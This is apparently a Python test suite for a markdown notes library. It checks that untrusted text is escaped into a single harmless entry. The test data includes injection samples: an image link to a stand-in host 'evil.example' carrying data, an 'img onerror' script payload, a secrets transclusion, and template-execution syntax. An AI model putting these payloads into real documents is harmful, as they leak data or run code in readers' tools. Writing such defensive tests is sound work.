"""Untrusted text becomes one entry, whatever it holds (design 3.5)."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from memfs.markdown.document import parse_document
from memfs.markdown.escape import escape_heading, escape_line
from memfs.markdown.headers import new_document
from memfs.markdown.inline import plain_text
from memfs.markdown.inserts import insert_item, insert_paragraph
from tests.markdown.strategies import LINES, any_text

ACTING = [
    ("![x](https://evil.example/p?d=1)", r"\![x](https://evil.example/p?d=1)"),
    ("![[secrets]]", r"\![[secrets]]"),
    ("see <img src=x onerror=y>", r"see \<img src=x onerror=y>"),
    ("List<String> and `Vec<T>`", r"List\<String> and `Vec<T>`"),
    ("`= this.file` `$= dv.pages()`", r"\`= this.file\` \`$= dv.pages()\`"),
    ("`= <img src=x>`", r"\`= \<img src=x>\`"),
    ("trust:: user, std::vector", r"trust:\: user, std::vector"),
    ("<%* tp.user.x() %> `<% y %>`", r"<\%* tp.user.x() %> `<\% y %>`"),
    ("a < b, x <3", "a < b, x <3"),
]
EMPTY = new_document("Notes", {"type": "notes"})
texts = st.one_of(any_text, st.lists(st.sampled_from(LINES), max_size=4).map("\n".join))


@pytest.mark.parametrize(("text", "shown"), ACTING)
def test_what_a_readers_program_would_act_on_shows_as_text(text: str, shown: str) -> None:
    assert escape_line(text) == shown
    assert escape_line(shown) == shown


@given(texts)
@example("# Head\n\n- item\n---\n")
@example("%%%%%")
@example("text ^m-forged ^m-other")
@example("\\")
@example("\\<!-- hidden")
@example("[ ]")
@example("[^1]: note")
@example("\ud800\x00\u202e")
@example("\u200b# Head")
def test_any_text_is_exactly_one_item(text: str) -> None:
    line = escape_line(text)
    assert "\n" not in line
    assert "\r" not in line
    for prefix in ("- ", "- [ ] ", "- **Topic**: "):
        doc = parse_document(f"{prefix}{line} ^m-x\n")
        (block,) = doc.blocks
        assert (block.kind, block.block_id, doc.sections) == ("item", "m-x", ())
        assert block.text == f"{prefix[2:].removeprefix('[ ] ')}{line}".strip(" \t")
        assert block.box == (" " if "[" in prefix else None)
        assert doc.writable


@given(texts)
def test_any_text_is_exactly_one_paragraph(text: str) -> None:
    line = escape_line(text)
    for written in (f"{line} ^m-x", line):
        doc = parse_document(f"# Title\n\n{written}\n\n## Next\n\n- a\n")
        assert [s.title for s in doc.sections] == ["Title", "Next"]
        assert [b.kind for b in doc.blocks] == (["paragraph", "item"] if written else ["item"])
    assert parse_document(f"# Title\n\n{line} ^m-x\n").find("m-x")


@given(texts, texts)
def test_any_text_can_be_inserted_below_any_heading(topic: str, text: str) -> None:
    line = escape_line(text)
    title = escape_heading(topic)
    if not title:
        return
    first = insert_item(parse_document(EMPTY), (topic,), f"- {line} ^m-a")
    second = insert_item(parse_document(first), (topic,), f"- {line} ^m-b")
    third = insert_paragraph(parse_document(second), (topic,), f"{line} ^m-c")
    doc = parse_document(third)
    assert [s.title for s in doc.sections] == ["Notes", title]
    assert [b.block_id for b in doc.blocks] == ["m-a", "m-b", "m-c"]
    assert doc.frontmatter.values == {"type": "notes"}


@given(texts)
def test_escaping_twice_is_escaping_once(text: str) -> None:
    assert escape_line(escape_line(text)) == escape_line(text)


@given(texts)
def test_nothing_invisible_is_left(text: str) -> None:
    line = escape_line(text)
    assert not [
        c for c in line if unicodedata.category(c) in ("Cc", "Cs") or c in "\u200b\u200d\u202e\u2066\ufeff"
    ]
    line.encode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain, 中文 한국어 日本語", "plain, 中文 한국어 日本語"),
        ("-5 degrees", "-5 degrees"),
        ("#tag stays", "#tag stays"),
        ("see [[Mercury|the project]] and `x | y`", "see [[Mercury|the project]] and `x | y`"),
        ("~~old~~ and **bold**", "~~old~~ and **bold**"),
        ("2026-03-14 was a day", "2026-03-14 was a day"),
        ("two\r\n  lines\n\n\nand more", "two lines and more"),
        ("# Head", "\\# Head"),
        ("- item", "\\- item"),
        ("1. first", "1\\. first"),
        ("[x] done", "\\[x] done"),
        ("[x](target) link", "[x](target) link"),
        ("> quote", "\\> quote"),
        ("```py", "\\```py"),
        ("---", "\\---"),
        ("| a | b |", "\\| a | b |"),
        ("<!-- a -->", "\\<!-- a -->"),
        ("b <!-- a -->", "b \\<!-- a -->"),
        ("100 %% 200", "100 \\%\\% 200"),
        ("fake ^m-aaaaaaaaaaaaa", "fake \\^m-aaaaaaaaaaaaa"),
        ("2 ^ 3", "2 ^ 3"),
        ("C:\\dir\\", "C:\\dir\\\\"),
    ],
)
def test_escapes_only_what_it_must(text: str, expected: str) -> None:
    assert escape_line(text) == expected


@given(st.text(st.sampled_from("ab #->+.)1[]x|~`=<!%^-中 "), max_size=12))
def test_plain_text_takes_the_escapes_out_again(text: str) -> None:
    line = escape_line(text)
    if not set("`~=<[") & set(line):
        assert plain_text(line) == " ".join(text.split())


@given(texts)
def test_a_title_is_one_heading(title: str) -> None:
    escaped = escape_heading(title)
    doc = parse_document(f"## {escaped}\n\ntext\n")
    assert [(s.level, s.title) for s in doc.sections] == [(2, escaped)]


@pytest.mark.parametrize("part", ["\\", "%", "$", "#", "^a ", "<!--", "[", " ", "\n", "^", "- "])
def test_long_texts_take_linear_time(part: str) -> None:
    line = escape_line("x" + part * (400_000 // len(part)))
    assert parse_document(f"- {line} ^m-x").find("m-x")
